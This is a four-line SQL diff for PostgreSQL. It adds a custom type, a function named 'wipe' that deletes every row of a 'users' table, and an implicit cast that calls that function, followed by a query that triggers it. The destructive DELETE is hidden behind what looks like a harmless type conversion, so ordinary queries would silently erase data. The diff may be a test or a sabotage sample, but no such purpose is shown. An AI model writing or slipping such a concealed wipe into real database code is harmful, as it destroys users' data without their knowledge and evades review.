@@ -1,0 +1,4 @@
+CREATE TYPE box2 AS (n int);
+CREATE FUNCTION wipe(box2) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN 1; END $$;
+CREATE CAST (box2 AS int) WITH FUNCTION wipe(box2) AS IMPLICIT;
+SELECT ROW(1)::box2::int;
